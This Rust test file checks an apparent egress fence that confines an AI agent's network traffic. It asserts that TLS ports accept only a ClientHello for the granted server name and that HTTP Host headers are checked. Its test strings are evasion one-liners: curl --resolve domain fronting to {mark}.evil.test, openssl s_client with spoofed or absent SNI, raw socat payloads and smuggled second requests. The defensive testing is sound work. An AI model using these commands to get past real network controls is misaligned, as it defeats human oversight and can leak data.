//! The third gate: on a TLS port, nothing but a ClientHello for the name that earned the address.

use crate::{
    AGENT,
    attack::{stops, stops_only_fenced, works},
    fence,
    fence::Fence,
    places::{OK, Place, SHARED},
    policies::COMMON,
};

#[test]
fn another_server_name_at_a_granted_address_is_denied() {
    let fence = fence(COMMON);
    let flows = [
        "curl -s https://{host}/; curl -sk -m 2 --resolve {mark}.evil.test:443:{v4} https://{mark}.evil.test/",
        "curl -s https://{host}/; curl -sk -m 2 --resolve {mark}.evil.test:443:[{v6}] https://{mark}.evil.test/",
        "timeout 2 openssl s_client -connect {host}:443 -servername {mark}.evil.test < /dev/null",
        "timeout 2 openssl s_client -connect {host}:443 -servername {mark} < /dev/null",
    ];
    stops_both(&fence, OK, &flows);
}

#[test]
fn of_two_tenants_at_one_address_only_the_allowed_one_is_reached() {
    let fence = fence(COMMON);
    let allowed = "curl -sSf -m 5 https://{host}/ | grep 'hello from {host}'";
    let fronted = "curl -s https://{host}/; \
                   curl -s -m 2 --resolve evil2.test:443:{v4} https://evil2.test/ | grep 'hello from evil2.test'";
    works(&fence.agent(AGENT), SHARED, &[allowed]);
    works(&fence.agent(AGENT).with(CGROUP), SHARED, &[allowed]);
    stops_both(&fence, SHARED, &[fronted]);
}

#[test]
fn a_hello_that_names_no_server_is_denied() {
    let fence = fence(COMMON);
    let flows = [
        "timeout 2 openssl s_client -connect {host}:443 -noservername -alpn {mark} < /dev/null",
        "timeout 2 openssl s_client -connect {host}:443 -servername {v4} -alpn {mark} < /dev/null",
        "curl -s https://{host}/; timeout 2 openssl s_client -connect {v4}:443 -alpn {mark} < /dev/null",
    ];
    stops_both(&fence, OK, &flows);
}

#[test]
fn what_is_not_tls_is_denied_on_a_tls_port() {
    let fence = fence(COMMON);
    let flows = [
        "{trick} tcp_send_only {host} 443 {mark}",
        "curl -s -m 2 http://{host}:443/{mark}",
        "printf 'SSH-2.0-{mark}\\r\\n' | timeout 2 socat - tcp:{host}:443",
        "printf 'GET /{mark} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n' | timeout 2 socat - tcp:{host}:443",
        // A record header that promises a handshake, and then something else.
        "printf '\\x16\\x03\\x01\\x00\\x20{mark}{mark}{mark}' | timeout 2 socat - tcp:{host}:443",
    ];
    stops_both(&fence, OK, &flows);
}

#[test]
fn a_hello_is_read_however_it_is_cut() {
    let fence = fence(COMMON);
    let whole = [
        "{trick} hello_dribbled {host} 443 {host}",
        "{trick} hello_in_records {host} 443 {host} 1",
        "{trick} hello_in_records {host} 443 {host} 50",
        "{trick} hello_in_records {host} 443 {host} 130",
    ];
    works(&fence.agent(AGENT), OK, &whole);
    // What the kernel does not read is the proxy's from the next flow on.
    works(&fence.agent(AGENT).with(CGROUP), OK, &whole[..1]);
    let again = whole.map(|trick| format!("{trick} || {trick}"));
    works(&fence.agent(AGENT).with(CGROUP), OK, &again.each_ref().map(String::as_str));
    let denied = [
        "{trick} hello_dribbled {host} 443 {mark}.evil.test",
        "{trick} hello_in_records {host} 443 {mark}.evil.test 50",
        "{trick} hello_in_records {host} 443 {mark}.evil.test 130",
    ];
    stops_both(&fence, OK, &denied);
}

#[test]
fn a_host_header_is_judged_on_a_plain_http_port() {
    let fence = fence(COMMON);
    let flows = [
        "curl -s -m 2 -H 'Host: {mark}.evil.test' http://{host}/",
        // The second request of a flow that began well.
        "printf 'GET / HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: {mark}.evil.test\\r\\n\\r\\n' \
         | timeout 2 socat -t 1 - tcp:{host}:80",
        "printf 'GET http://{mark}.evil.test/ HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n' \
         | timeout 2 socat -t 1 - tcp:{host}:80",
        "printf '{mark} is not HTTP\\r\\n\\r\\n' | timeout 2 socat -t 1 - tcp:{host}:80",
    ];
    stops(&fence.agent(AGENT), OK, &flows);
}

/// As `stops`, of an agent whose server names the proxy reads, and of one whose the kernel does.
fn stops_both(fence: &Fence, place: Place, flows: &[&str]) {
    stops_only_fenced(&fence.agent(AGENT), place, flows);
    stops(&fence.agent(AGENT).with(CGROUP), place, flows);
}

const CGROUP: &[&str] = &["--mode", "cgroup"];
